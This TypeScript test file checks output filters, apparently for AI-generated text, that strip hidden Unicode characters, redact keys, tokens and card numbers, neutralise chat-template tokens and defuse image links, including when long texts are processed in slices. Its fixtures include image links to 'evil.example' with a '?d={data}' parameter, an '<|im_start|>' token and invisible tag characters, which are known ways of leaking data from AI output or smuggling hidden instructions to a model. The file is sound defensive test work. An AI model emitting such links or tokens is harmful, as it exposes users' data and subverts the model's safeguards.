// Proves that a text in slices gives what the whole would, wherever the edges fall, and that no step is long.
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import fc from 'fast-check'
import { atOnce } from '../steps.ts'
import { activeLinks } from './active-links.ts'
import { hiddenCharacters } from './hidden-characters.ts'
import type { OutputFilter } from './release.ts'
import { releaseSteps } from './release.ts'
import { secretValues } from './secret-values.ts'
import { slicedFilter } from './slices.ts'
import { templateTokens } from './template-tokens.ts'

const FILTERS: readonly OutputFilter[] = [
  hiddenCharacters,
  secretValues('credentials', 'redact'),
  secretValues('account_numbers', 'redact'),
  templateTokens,
  activeLinks({ images: 'defuse', links: 'mark', hosts: [] }),
]
const LONGEST_STEP = 70_000 // units: a slice with what its matches may look at on both sides

const [HIGH, LOW] = ['\ud83d', '\ude00'] as const // halves of a pair
const KEY = `-----BEGIN PRIVATE KEY-----${'MIIEvQ+/'.repeat(2_048)}` // as much as is taken at once
const ADDRESS = `https://evil.example/${'p'.repeat(2_000)}?d={data}`
const FINDS: readonly (readonly [name: string, text: string])[] = [
  ['a key of 16 KiB', `${KEY}\n-----END PRIVATE KEY-----`],
  ['a long token', `eyJhbGciOiJIUzI1NiJ9.${'a'.repeat(8_000)}.${'b'.repeat(43)}`],
  ['a card', '4111 1111 1111 1111'],
  ['a picture', `![${'x'.repeat(290)}](${ADDRESS})`],
  ['a picture in HTML', `<img alt="${'x'.repeat(480)}" src="${ADDRESS}">`],
  ['a reference', `\n[${'x'.repeat(90)}]: ${ADDRESS}`],
  ['a mark of a template', '<|im_start|>'],
  ['an override', '\u202e'],
  ['a flag', '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}'],
  ['a tag beside half a pair', `${HIGH}\u{E0041}`],
  ['a selector too many', '\u2764\ufe0f\ufe0f'],
]

suite('slicedFilter()', () => {
  for (const [name, text] of FINDS)
    test(`${name}: found the same, wherever an edge of a slice falls`, () => {
      for (const filter of FILTERS) {
        const alone = filter.clean(` ${text} `)
        for (const edge of [8_192, 32_768])
          for (const before of [1, 2, 3, 17, 100, 300, 2_400, 16_400, text.length, text.length + 1]
            .map((n) => edge - n)
            .filter((n) => n >= 0)) {
            const pad = 'x '.repeat(edge).slice(0, before)
            const { text: cleaned, removed } = filter.clean(`${pad} ${text} ${pad}`)
            assert.equal(removed, alone.removed, `${filter.name} at ${before}`)
            assert.ok(cleaned === `${pad}${alone.text}${pad}`, `${filter.name} at ${before}`)
          }
      }
    })

  test('property: it is String.replace()', () => {
    const pattern = /(?<=a{0,3})b{1,5}c|\u{1F600}+?d?/gu
    const stars = slicedFilter({
      ...{ name: 'stars', says: String, suspects: /[bc\u{1F600}]/u, mayHold: /[c\u{1F600}]/u },
      ...{ pattern, reach: 9, slice: 16, instead: ([match]) => `<${match.length}>` },
    })
    for (let before = 0; before < 60; before++)
      assert.equal(stars.clean(`${'-'.repeat(before)}\u{1F600}d`).text, `${'-'.repeat(before)}<3>`)
    const piece = fc.constantFrom('a', 'b', 'bb', 'c', 'd', '\u{1F600}', HIGH, LOW, '-'.repeat(14))
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
        const text = pieces.join('')
        const whole = text.replace(pattern, (match) => `<${match.length}>`)
        assert.equal(stars.clean(text).text, whole)
        assert.equal(atOnce(stars.steps?.suspects(text) ?? failed()), /[c\u{1F600}]/u.test(text))
      }),
      { numRuns: 2_000 },
    )
  })
})

suite('steps of a long text', () => {
  const LENGTH = 1_000_000
  const stepsOf = ({ steps }: OutputFilter, text: string) => {
    assert.ok(steps)
    return [...steps.suspects(text), ...steps.clean(text)] // a try that costs a few units is a step too
  }

  for (const piece of ['QUJD', '<', '![', '](//a(', 'xoxb-', '%41', '4111 '])
    test(`each filter goes through a megabyte of ${piece} in short steps`, () => {
      const text = piece.repeat(LENGTH / piece.length)
      for (const filter of FILTERS) {
        const steps = stepsOf(filter, `${text}\u202e](<eyJ`)
        const longest = steps.reduce((most, units) => Math.max(most, units), 0)
        assert.ok(steps.length > 50 && longest <= LONGEST_STEP, `${steps.length}, ${longest}`)
      }
    })

  test('of a picture in base64, no more than its one run and the look for turns are gone over in one step', () => {
    const text = JSON.stringify({ data: 'QUJD'.repeat(LENGTH / 4), also: '\u202e](<eyJ' })
    const steps = [...releaseSteps({ text }, FILTERS, { deadlineMs: 1, outputBytes: 3 * LENGTH })]
    const long = steps.filter((units) => units > LONGEST_STEP)
    assert.ok(long.length <= 2, `${long.length} long steps`)
  })
})

const failed = (): never => assert.fail('It has no steps')
